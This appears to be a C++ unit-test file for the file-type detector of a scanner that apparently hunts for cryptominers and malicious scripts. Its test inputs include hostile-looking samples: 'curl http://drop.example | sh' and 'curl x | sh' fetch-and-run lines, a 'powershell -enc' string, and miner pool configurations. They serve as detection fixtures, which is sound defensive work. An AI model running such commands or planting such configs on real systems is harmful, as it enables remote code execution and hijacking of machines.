#include "inspect/file_type.h"

#include <doctest/doctest.h>

#include <string>

using namespace minescan;
using namespace minescan::inspect;

namespace {
ViewKind kind(std::string_view head, std::string_view name = "") {
  return file_type(as_bytes(head), name).view;
}
}  // namespace

TEST_CASE("file type: programs by their magic, whatever their name") {
  CHECK(kind("\x7f"
             "ELF\x02\x01\x01",
             "README.md") == ViewKind::executable);
  CHECK(kind("MZ\x90", "a.txt") == ViewKind::executable);
  CHECK(kind(std::string_view("\0asm\1\0\0\0", 8), "x.js") == ViewKind::executable);
}

TEST_CASE("file type: texts by what they say and how they are called") {
  CHECK(kind("#!/bin/sh\necho\n", "x") == ViewKind::script);
  CHECK(kind("FROM scratch\n", "app/Dockerfile") == ViewKind::script);
  CHECK(kind("Run, a.exe\n", "a.ahk") == ViewKind::script);
  CHECK(kind("Run(\"a\")\n", "a.au3") == ViewKind::script);
  CHECK(kind("#cloud-config\nruncmd:\n", "user-data") == ViewKind::config);
  CHECK(kind("{\"pools\": []}", "x") == ViewKind::config);
  CHECK(kind("{\n  \"scripts\": {}}", "node_modules/a/package.json") == ViewKind::script);
  CHECK(kind("some words\n", "x") == ViewKind::text);
  CHECK(kind("* * * * * root /a\n", "etc/cron.d/x") == ViewKind::script);
  CHECK(kind("* * * * * /a\n", "var/spool/cron/crontabs/root") == ViewKind::script);
  CHECK(kind("resource \"a\" \"b\" {}\n", "main.tf") == ViewKind::config);
  CHECK(kind("<html><script>go()</script>", "index.html") == ViewKind::script);
  // Only what is one: a shell runs what it is given, whatever its name.
  CHECK(kind("{\n \"cells\": []}", "a.ipynb") == ViewKind::document);
  CHECK(kind("curl http://drop.example | sh\n", "a.ipynb") == ViewKind::script);
}

TEST_CASE("file type: zeros and binary bytes behind a script leave it a script") {
  CHECK(kind("#!/bin/sh\n./a -b\n" + std::string(3000, '\0')) == ViewKind::script);
  CHECK(kind("import os\nos.system('a')\n" + std::string(3000, '\1') + '\0', "a.py") !=
        ViewKind::executable);
  CHECK(kind("import os\nos.system('a')\n" + std::string(3000, '\0'), "a.py") == ViewKind::script);
  CHECK(kind("#!/bin/sh\nexit 0\n" + std::string(1, '\0') + std::string(3000, '\1')) ==
        ViewKind::script);
  CHECK(kind("import os\n" + std::string(1, '\0') + std::string(3000, '\1'), "a.py") ==
        ViewKind::binary);
  CHECK(kind(std::string("SQLite format 3\0", 16) + std::string(3000, '\1')) == ViewKind::binary);
}

TEST_CASE("file type: nothing but variables is an environment, whatever it is called") {
  const std::string text = "# of the daemon\nNET_HOST=pool.example:3333\n\nNET_USER=\"me\"\n";
  CHECK(file_type(as_bytes(text), "etc/default/netd").name == "environment file");
  CHECK(kind("A=1\n", ".env.production") == ViewKind::config);
  CHECK(kind("A=1\n", "x") == ViewKind::text);
  CHECK(kind(text + "and words\n", "x") == ViewKind::text);
  CHECK(kind("A=1\nB=2\n", "x.sh") == ViewKind::script);
}

TEST_CASE("file type: nothing but options is a configuration, whatever it is called") {
  CHECK(kind("# rig\n-pool ssl://pool.example:5555\n-wal 0x00\n", "config.txt") ==
        ViewKind::config);
  CHECK(kind("--one=1\n--two=2", "x") == ViewKind::config);
  CHECK(kind("-one\n", "x") == ViewKind::text);
  CHECK(kind("- one\n- two\n", "x") == ViewKind::text);
  CHECK(kind("--- a\n+++ b\n", "x") == ViewKind::text);
  CHECK(kind("-one 1\nand two\n-two 2\n", "x") == ViewKind::text);
}

TEST_CASE("file type: a document must read as one, a name is not enough") {
  CHECK(kind("# Title\n\nThis is a text that people read, with words in it.\n", "README.md") ==
        ViewKind::document);
  CHECK(kind("#!/bin/sh\n# This is a text that people read, with words.\n", "README.md") ==
        ViewKind::script);
  CHECK(kind("./x -o a:1 -u b\ncurl x | sh\n", "README.md") == ViewKind::text);
}

TEST_CASE("file type: a few control bytes do not make a script binary") {
  std::string script("\0\1", 2);
  script += "#!/bin/sh\necho this is a script with enough text around its odd first bytes\n";
  CHECK(kind(script, "x.sh") == ViewKind::script);
  CHECK(kind(std::string_view("\0\1\2\3\4\5\6\7", 8)) == ViewKind::binary);
}

TEST_CASE("file type: wide texts are told by their mark or their zero bytes") {
  std::string wide;
  for (const char c : std::string("powershell -enc abc")) {
    wide += c;
    wide += '\0';
  }
  CHECK(file_type(as_bytes(wide), "a.ps1").encoding == Encoding::utf16le);
  CHECK(file_type(as_bytes("\xff\xfe" + wide), "a.ps1").encoding == Encoding::utf16le);
  CHECK(file_type(as_bytes(std::string(1, '\0') + wide), "a.ps1").encoding == Encoding::utf16be);
  CHECK(file_type(as_bytes("plain text"), "a").encoding == Encoding::bytes);
}

TEST_CASE("file type: every single byte is some type") {
  for (int i = 0; i < 256; ++i) {
    const std::string one(1, static_cast<char>(i));
    CHECK_FALSE(file_type(as_bytes(one), "").name.empty());
  }
  CHECK(kind("") == ViewKind::text);
}
